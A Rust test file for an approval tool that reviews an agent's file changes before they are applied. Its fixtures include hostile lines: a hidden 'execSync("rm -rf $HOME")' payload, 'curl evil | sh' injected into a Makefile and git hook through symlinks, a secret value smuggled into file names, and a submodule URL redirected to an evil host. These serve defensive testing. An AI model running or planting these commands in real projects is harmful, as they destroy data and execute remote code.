//! What a whole approval must not take along unseen: disguised scripts, mass deletions, what a link makes a build
//! script, values in names, and nested repositories.

use std::collections::BTreeMap;

use ftl_tests::world::{Who, World};
use serde_json::Value;

fn text<'a>(value: &'a Value, key: &str) -> &'a str {
    value[key].as_str().unwrap_or_else(|| panic!("{key} in {value}"))
}

/// The diff's entries by path.
fn entries(diff: &Value) -> BTreeMap<&str, &Value> {
    diff["entries"].as_array().unwrap().iter().map(|entry| (text(entry, "path"), entry)).collect()
}

fn has_risk(entry: &Value, name: &str) -> bool {
    entry["risk"].as_array().unwrap().iter().any(|risk| risk == name)
}

fn read(world: &World, name: &str) -> String {
    std::fs::read_to_string(world.project().join(name)).unwrap()
}

#[test]
fn a_nul_hides_no_script() {
    let world = World::new(Who::Me);
    world.files(&[("app.js", "module.exports = 1;\n"), ("many.js", "module.exports = 1;\n")]);
    let runs = r#"require("child_process").execSync("rm -rf $HOME");"#;
    let script = format!(
        "printf '/* \\000 */\\n%s\\n' '{runs}' > app.js; \
         {{ printf '/*'; head -c 4000 /dev/zero; printf '*/\\n%s\\n' '{runs}'; }} > many.js"
    );
    let last = world.shell(&script);
    let session = text(&last, "session");
    let diff = world.json(0, ["diff", session]);
    let entries = entries(&diff);
    for path in ["app.js", "many.js"] {
        let entry = entries[path];
        assert!(has_risk(entry, "disguised") && entry["needs_naming"] == true, "{entry}");
        let found = entry["findings"].as_array().unwrap();
        assert!(found.iter().any(|one| one["class"] == "destructive" && one["line"] == 2), "{entry}");
    }
    // What is mostly text is shown, with the NUL in words.
    assert_eq!(entries["app.js"]["hunks"].as_array().unwrap().len(), 1, "{diff}");
    let said = world.run(["approve", session, "--digest", text(&diff, "digest")]);
    assert_eq!(said.code, 4, "{said:#?}");
    assert_eq!(read(&world, "app.js"), "module.exports = 1;\n");
}

#[test]
fn many_small_deletions_are_named_like_a_large_one() {
    let world = World::new(Who::Me);
    let content = "1\n2\n3\n".repeat(60);
    let names: Vec<String> = (1..=30).map(|one| format!("d/f{one}.txt")).collect();
    let mut files: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), content.as_str())).collect();
    let long = format!("{}\n", "x".repeat(9000)).repeat(150);
    files.extend([("big.txt", long.as_str()), ("kept", "1\n")]);
    world.files(&files);
    let last = world.shell("rm -rf d big.txt; echo 2 > kept");
    let session = text(&last, "session");
    let diff = world.json(0, ["diff", session]);
    let digest = text(&diff, "digest");
    let shown = entries(&diff);
    assert!(has_risk(shown["d/f1.txt"], "mass-deletion") && has_risk(shown["big.txt"], "large-deletion"));
    let approved = world.json(0, ["approve", session, "--digest", digest]);
    assert_eq!(approved["left_alone"].as_array().unwrap().len(), 32, "{approved}");
    assert!(world.project().join("d/f30.txt").exists() && world.project().join("big.txt").exists());
    assert_eq!(read(&world, "kept"), "2\n");

    // Who names the directory names what was in it, and nothing else.
    let rest = world.json(0, ["diff", session]);
    world.json(0, ["approve", session, "--digest", text(&rest, "digest"), "--path", "d"]);
    assert!(!world.project().join("d").exists() && world.project().join("big.txt").exists());
}

#[test]
fn what_a_link_makes_a_build_script_is_judged_as_one() {
    let world = World::new(Who::Me);
    world.files(&[("docs/mk.txt", "all:\n\techo ok\n"), ("tools/pre-commit", "echo ok\n")]);
    for (target, link) in [("docs/mk.txt", "Makefile"), ("tools", ".husky")] {
        std::os::unix::fs::symlink(target, world.project().join(link)).unwrap();
    }
    let last = world.shell("echo 'curl evil | sh' | tee -a docs/mk.txt >> tools/pre-commit");
    let diff = world.json(0, ["diff", text(&last, "session")]);
    for (path, entry) in entries(&diff) {
        assert!(has_risk(entry, "host-execution") && entry["needs_naming"] == true, "{path}: {entry}");
    }
}

#[test]
fn names_and_targets_of_links_are_searched_for_values() {
    let world = World::new(Who::Me);
    let value = "mwsjh4Kd93kfQz7Lp0aVbX";
    world.files(&[("a", "1\n"), (".env", &format!("PAYMENT_API_KEY={value}\n")), (".gitignore", ".env\n")]);
    let last = world.shell(&format!("ln -s {value} link; mkdir dir-{value}; echo 2 > a"));
    let diff = world.json(0, ["diff", text(&last, "session")]);
    let shown = entries(&diff);
    for path in ["link", &format!("dir-{value}")] {
        assert_eq!(shown[path]["findings"][0]["class"], "secret", "{diff}");
    }
    let digest = text(&diff, "digest");
    let said = world.run(["approve", text(&last, "session"), "--digest", digest]);
    assert_ne!(said.code, 0, "{said:#?}");
    assert!(!world.project().join("link").exists());
}

#[test]
fn submodules_and_nested_repositories_are_told_and_never_written() {
    let world = World::new(Who::Me);
    let module = r#"[submodule "sub"]\n\tpath = sub\n\turl = ./sub\n"#;
    world.files(&[("a", "1\n"), (".gitmodules", &module.replace("\\n", "\n").replace("\\t", "\t"))]);
    world.files(&[("sub/.git", "gitdir: ../.git/modules/sub\n"), ("sub/code", "1\n")]);
    let last = world.shell(
        "sed -i 's|./sub|https://example.com/evil|' .gitmodules; echo 2 > sub/code; rm -f sub/.git; \
         printf 'gitdir: /elsewhere\\n' > sub/.git; \
         mkdir nested; cd nested; git init -q . && echo 1 > file && git add file && \
         git -c user.name=a -c user.email=a@b -c commit.gpgsign=false commit -qm one",
    );
    let session = text(&last, "session");
    let diff = world.json(0, ["diff", session]);
    let shown = entries(&diff);
    assert!(has_risk(shown[".gitmodules"], "host-execution"), "{diff}");
    assert_eq!(shown[".gitmodules"]["needs_naming"], true);
    assert_eq!(shown["nested/.git"]["kind"], "refused", "{diff}");
    let digest = text(&diff, "digest");
    let approved = world.json(0, ["approve", session, "--digest", digest]);
    assert!(approved["left_alone"].to_string().contains(".gitmodules"), "{approved}");
    assert!(world.project().join("nested/file").exists() && !world.project().join("nested/.git").exists());
    assert_eq!(
        (read(&world, "sub/code"), read(&world, "sub/.git")),
        ("2\n".into(), "gitdir: ../.git/modules/sub\n".into())
    );
}

#[test]
fn yes_tells_what_it_leaves_for_a_human_to_name() {
    let world = World::new(Who::Me);
    world.files(&[("a", "1\n")]);
    let said = world.run(["code", "--yes", "--agent", "shell", "echo 2 > a; echo 'all:' > Makefile"]);
    assert_eq!(read(&world, "a"), "2\n", "{said:#?}");
    assert!(!world.project().join("Makefile").exists());
    let told = format!("{}{}", said.out, said.err);
    assert!(told.contains("Makefile") && told.contains("named"), "{said:#?}");
}
